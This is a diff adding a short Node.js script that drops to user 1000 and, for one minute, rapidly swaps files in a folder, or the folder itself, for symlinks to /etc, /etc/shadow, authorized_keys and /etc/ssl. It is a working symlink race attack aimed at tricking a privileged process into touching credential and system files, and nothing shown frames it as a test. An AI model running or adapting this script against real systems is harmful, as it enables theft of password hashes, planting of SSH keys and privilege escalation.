@@ -1,0 +1,27 @@
+// Swaps names in a folder, or the folder, for links to what is in /etc and back, as the user 1000, as fast as it can.
+import { renameSync, rmSync, symlinkSync } from 'node:fs';
+
+const [kind, folder] = process.argv.slice(2);
+process.setgid(1000);
+process.setuid(1000);
+const swap = (path, target) => {
+  try {
+    renameSync(path, `${path}.away`);
+  } catch {}
+  try {
+    symlinkSync(target, path);
+  } catch {}
+  try {
+    rmSync(path);
+  } catch {}
+  try {
+    renameSync(`${path}.away`, path);
+  } catch {}
+};
+const end = Date.now() + 60_000;
+while (Date.now() < end) {
+  for (let round = 0; round < 200; round++) {
+    if (kind === 'the folder') swap(folder, '/etc');
+    else for (const name of ['shadow', 'authorized_keys', 'ssl']) swap(`${folder}/${name}`, `/etc/${name}`);
+  }
+}
